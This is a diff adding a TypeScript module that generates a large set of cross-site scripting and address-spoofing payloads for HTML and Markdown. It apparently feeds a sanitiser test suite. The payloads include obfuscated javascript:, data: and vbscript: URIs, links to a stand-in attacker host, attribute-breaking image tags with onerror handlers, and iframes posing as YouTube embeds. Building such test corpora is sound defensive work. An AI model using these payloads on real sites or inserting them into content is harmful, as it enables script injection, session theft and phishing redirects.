@@ -1,0 +1,255 @@
+import { cross, EVIL, payloads, RUN, type Payload } from "./payload.ts";
+
+const entities = (text: string, write: (code: number) => string): string =>
+  [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join("");
+
+/** Addresses that run something, as they may be written and disguised. */
+const RUNNING = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `java\rscript:${RUN}`,
+  `j\na\nv\na\ns\nc\nr\ni\np\nt:${RUN}`,
+  ` javascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `\u001fjavascript:${RUN}`,
+  `\u007fjavascript:${RUN}`,
+  `\u00a0javascript:${RUN}`,
+  `\u2028javascript:${RUN}`,
+  `\ufeffjavascript:${RUN}`,
+  `java\u00adscript:${RUN}`,
+  `java\u0000script:${RUN}`.replace("\0", ""),
+  `javascript\t:${RUN}`,
+  `javascript\n:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `javascript&#58;${RUN}`,
+  `javascript&#x3a${RUN}`,
+  `javascript%3A${RUN}`,
+  `javascript\\x3A${RUN}`,
+  `javascript\uff1a${RUN}`,
+  `java&Tab;script:${RUN}`,
+  `java&NewLine;script:${RUN}`,
+  `&#1;javascript:${RUN}`,
+  `&#x20;&#x9;javascript:${RUN}`,
+  entities(`javascript:${RUN}`, (code) => `&#${code};`),
+  entities(`javascript:${RUN}`, (code) => `&#x${code.toString(16)};`),
+  entities(`javascript:${RUN}`, (code) => `&#${String(code).padStart(7, "0")}`),
+  entities(
+    `javascript:${RUN}`,
+    (code) => `&#X${code.toString(16).padStart(6, "0").toUpperCase()};`,
+  ),
+  entities(`javascript:${RUN}`, (code) => `%${code.toString(16)}`),
+  `javascript:/*--></title></style></textarea></script><svg/onload='${RUN}'>*/${RUN}`,
+  `javascript://example.org/%0A${RUN}`,
+  `javascript://%0d%0a${RUN}`,
+  `javascript:"<script>${RUN}</script>"`,
+  `javascript:void(${RUN})`,
+  `vbscript:${RUN}`,
+  `livescript:${RUN}`,
+  `mocha:${RUN}`,
+  `feed:javascript:${RUN}`,
+  `view-source:javascript:${RUN}`,
+  `jar:https://${EVIL}/x.jar!/x.html`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
+  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>`,
+  `data:,${RUN}`,
+  `DATA:TEXT/HTML,<script>${RUN}</script>`,
+  `blob:https://${EVIL}/0000`,
+  `filesystem:https://${EVIL}/temporary/x.html`,
+  `about:srcdoc`,
+  `intent://${EVIL}#Intent;scheme=https;end`,
+  `ms-settings:x`,
+  `file:///etc/passwd`,
+];
+
+/** Addresses that lead elsewhere than they seem to. */
+const DECEIVING = [
+  `//${EVIL}`,
+  `\\\\${EVIL}`,
+  `/\\${EVIL}`,
+  `/\t/${EVIL}`,
+  `///${EVIL}`,
+  `https:${EVIL}`,
+  `https:/${EVIL}`,
+  `https:\\\\${EVIL}`,
+  `https://example.org@${EVIL}`,
+  `https://example.org%40${EVIL}`,
+  `https://example.org\\@${EVIL}`,
+  `https://${EVIL}#@example.org`,
+  `https://${EVIL}?example.org/`,
+  `https://example.org.${EVIL}`,
+  `https://ev\u0131l.example`,
+  `https://\u202eelpmaxe.live`,
+  `ht\ntps://${EVIL}`,
+  `?t=javascript:${RUN}`,
+  `#javascript:${RUN}`,
+  `javascript`,
+  `./javascript:${RUN}`,
+];
+
+/** Where an address may stand in HTML: the element around it, % for the address. */
+const CARRIERS = [
+  '<a href="%">a</a>',
+  "<a href='%'>a</a>",
+  '<area href="%">',
+  '<img src="%" alt="a">',
+  '<img srcset="% 1x" alt="a">',
+  '<img src=/icon.svg longdesc="%" lowsrc="%" dynsrc="%" usemap="%" alt="a">',
+  '<iframe src="%"></iframe>',
+  '<embed src="%">',
+  '<object data="%"></object>',
+  '<object><param name="movie" value="%"></object>',
+  '<video src="%" poster="%"></video>',
+  '<audio src="%"></audio>',
+  '<video><source src="%"><track src="%"></video>',
+  '<picture><source srcset="%"><img src=/icon.svg alt="a"></picture>',
+  '<form action="%"><button>a</button></form>',
+  '<button formaction="%">a</button>',
+  '<blockquote cite="%">a</blockquote>',
+  '<q cite="%">a</q>',
+  '<ins cite="%">a</ins>',
+  '<a ping="%" href="/">a</a>',
+  '<a href="/" target="%" rel="opener">a</a>',
+  '<svg><a href="%"><text>a</text></a></svg>',
+  '<svg><a xlink:href="%"><text>a</text></a></svg>',
+  '<svg><use href="%"/></svg>',
+  '<svg><image href="%"/></svg>',
+  '<svg><feImage href="%"/></svg>',
+  '<svg><animate attributeName="href" to="%"/></svg>',
+  '<math><mi href="%">a</mi></math>',
+  '<link rel="icon" href="%">',
+  '<script src="%"></script>',
+  '<frameset><frame src="%"></frameset>',
+  '<input type="image" src="%">',
+  '<html manifest="%">',
+  '<body background="%">',
+];
+
+/** Where it may stand in Markdown. */
+const MARKDOWN = [
+  "[a](%)",
+  "[a](<%>)",
+  '[a](% "b")',
+  "![a](%)",
+  "![a](<%>)",
+  "[![a](/icon.svg)](%)",
+  "[![a](%)](/)",
+  "<%>",
+  "[a][b]\n\n[b]: %",
+  "[a]\n\n[a]: <%> 'b'",
+  "[a](%){: target=x }",
+];
+
+const LABELS = [
+  `"><img src=x onerror=${RUN}>`,
+  `' onclick='${RUN}`,
+  `"onmouseover="${RUN}`,
+  `&quot;&gt;&lt;img src=x onerror=${RUN}&gt;`,
+  `</a><script>${RUN}</script>`,
+  `<svg/onload=${RUN}>`,
+  `\`<img src=x onerror=${RUN}>\``,
+  `**<img src=x onerror=${RUN}>**`,
+];
+
+const markdown = (): Payload[] => [
+  ...payloads(
+    "Markdown links that run",
+    cross(MARKDOWN, RUNNING.slice(0, 40), (place, address) => place.replaceAll("%", address)),
+  ),
+  ...payloads(
+    "Markdown links that deceive",
+    cross(MARKDOWN.slice(0, 4), DECEIVING, (place, address) => place.replaceAll("%", address)),
+  ),
+  ...payloads(
+    "Markdown around markup",
+    LABELS.flatMap((label) => [
+      `[${label}](/a)`,
+      `[a](/b "${label}")`,
+      `![${label}](/icon.svg)`,
+      `![a](/icon.svg "${label}")`,
+      `## ${label}`,
+      `- ${label}\n  - ${label}`,
+      `> ${label}`,
+      `| a |\n|-|\n| ${label} |`,
+      `[^a]\n\n[^a]: ${label}`,
+      `[^${label}]\n\n[^${label}]: a`,
+      `\`\`\`${label}\n${label}\n\`\`\``,
+      `~~~ js ${label}\na\n~~~`,
+      `a {: ${label} }`,
+      `term\n:   ${label}`,
+      `*[HTML]: ${label}\n\nHTML`,
+      `[1:23](#t=${label})`,
+      `1:23 ${label}`,
+      `{{< youtube ${label} >}}`,
+      `{% raw %}${label}{% endraw %}`,
+      `https://example.org/${label}`,
+      `<https://example.org/${label}>`,
+      `me${label}@example.org`,
+      `\\${label}`,
+      `<!-- ${label} -->`,
+      `$${label}$`,
+    ]),
+  ),
+];
+
+/** Frames that look like those of a known player. */
+const frames = (): Payload[] =>
+  payloads("frames", [
+    ...[
+      `https://youtube.com.${EVIL}/embed/x`,
+      `https://${EVIL}/youtube.com`,
+      `https://youtube.com@${EVIL}/`,
+      `https://youtube.com%2f@${EVIL}/`,
+      `https://${EVIL}\\.youtube.com/`,
+      `https://${EVIL}#.youtube.com`,
+      `https://${EVIL}?.youtube.com`,
+      `https://notyoutube.com/embed/x`,
+      `//${EVIL}`,
+      `javascript:${RUN}//youtube.com`,
+      `data:text/html,<script>parent.${RUN}</script>`,
+      `https://www.youtube.com:8080/embed/x`,
+      `https://a:b@www.youtube.com/embed/x`,
+      `https://www.youtube.com/embed/"><img src=x onerror=${RUN}>`,
+      `https://www.youtube.com/embed/x' onload='${RUN}`,
+      `about:blank`,
+      ``,
+    ].flatMap((src) => [
+      `<iframe src="${src}"></iframe>`,
+      `<iframe src='${src}' title='"><img src=x onerror=${RUN}>' height="1;${RUN}"></iframe>`,
+    ]),
+    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+    `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;" src="https://www.youtube.com/embed/x"></iframe>`,
+    `<iframe src="https://www.youtube.com/embed/x" srcdoc="<img src=x onerror=parent.${RUN}>" sandbox="allow-top-navigation allow-same-origin allow-scripts" allow="camera; microphone" name=x onload=${RUN}></iframe>`,
+    `<iframe src="https://www.youtube.com/embed/x"><img src=x onerror=${RUN}></iframe>`,
+    `<iframe src="https://${EVIL}/" src="https://www.youtube.com/embed/x"></iframe>`,
+    `<iframe src="https://www.youtube.com/embed/x" credentialless csp="script-src *" loading=eager importance=high>`,
+    `<object data="https://www.youtube.com/embed/x"></object>`,
+    `<embed src="https://${EVIL}/x.swf" allowscriptaccess=always>`,
+  ]);
+
+const addresses = (): Payload[] => [
+  ...payloads(
+    "addresses that run, in every place",
+    cross(CARRIERS, RUNNING.slice(0, 2).concat(RUNNING[43]!, RUNNING[45]!), (place, address) =>
+      place.replaceAll("%", address),
+    ),
+  ),
+  ...payloads(
+    "disguised addresses",
+    cross([CARRIERS[0]!, CARRIERS[3]!, CARRIERS[6]!, CARRIERS[21]!], RUNNING, (place, address) =>
+      place.replaceAll("%", address.replaceAll('"', "&quot;")),
+    ),
+  ),
+  ...payloads(
+    "addresses that deceive",
+    cross([CARRIERS[0]!, CARRIERS[3]!, CARRIERS[4]!], DECEIVING, (place, address) =>
+      place.replaceAll("%", address),
+    ),
+  ),
+];
+
+/** Links, images and frames, in HTML and in Markdown. */
+export const addressPayloads = (): Payload[] => [...addresses(), ...markdown(), ...frames()];
